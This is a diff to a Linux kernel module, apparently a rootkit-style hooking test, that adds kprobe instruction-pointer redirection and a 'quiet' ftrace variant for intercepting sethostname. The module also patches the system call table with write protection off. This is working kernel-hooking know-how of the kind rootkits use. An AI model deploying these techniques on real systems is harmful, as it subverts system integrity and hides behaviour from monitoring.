@@ -18,6 +18,8 @@ static unsigned long *call_table;
 static void *target;			/* __x64_sys_sethostname */
 static unsigned long (*entry_of)(unsigned long function);	/* its place for ftrace */
 
+static ftrace_func_t stub;		/* a tracer's function that does nothing */
+
 /* In the place of sethostname. */
 static asmlinkage long refuse(const struct pt_regs *regs)
 {
@@ -34,7 +36,7 @@ static void notrace lead_away(unsigned long ip, unsigned long parent, struct ftr
 
 static struct ftrace_ops tracer = {
 	.func = lead_away,
-	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
+	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
 };
 
 static int trace(void)
@@ -48,6 +50,18 @@ static void trace_no_more(void)
 {
 	unregister_ftrace_function(&tracer);
 	ftrace_set_filter_ip(&tracer, (unsigned long)target, 1, 0);
+}
+
+/* Its trampoline calls what was there when it was made. */
+static int deny(void)
+{
+	tracer.func = stub;
+	return 0;
+}
+
+static void admit(void)
+{
+	tracer.func = lead_away;
 }
 
 /* ---- the table of system calls, with the CPU's write protection off ---- */
@@ -121,6 +135,12 @@ static void unpatch(void)
 
 /* ---- kprobes: at its entry, which is ftrace's, and where there is no such place ---- */
 
+static int on_entry(struct kprobe *p, struct pt_regs *regs)
+{
+	instruction_pointer_set(regs, (unsigned long)refuse);
+	return 1;
+}
+
 static int on_probe(struct kprobe *p, struct pt_regs *regs)
 {
 	return 0;
@@ -132,7 +152,7 @@ static int probe(void)
 {
 	int r;
 
-	at_entry = (struct kprobe){ .addr = target, .pre_handler = on_probe };
+	at_entry = (struct kprobe){ .addr = target, .pre_handler = on_entry };
 	r = register_kprobe(&at_entry);
 	if (r)
 		return r;
@@ -155,6 +175,7 @@ static void probe_no_more(void)
 
 struct trick hook_tricks[] = {
 	{ "ftrace", trace, trace_no_more },
+	{ "ftrace-quiet", deny, admit },
 	{ "call-table", take_call, give_call_back },
 	{ "inline", patch, unpatch },
 	{ "kprobe", probe, probe_no_more },
@@ -166,5 +187,6 @@ int hook_init(void)
 	call_table = rootkit_symbol("sys_call_table");
 	target = rootkit_symbol("__x64_sys_sethostname");
 	entry_of = rootkit_symbol("ftrace_location");
-	return call_table && target && entry_of ? 0 : -ENOENT;
+	stub = rootkit_symbol("ftrace_stub");
+	return call_table && target && entry_of && stub ? 0 : -ENOENT;
 }
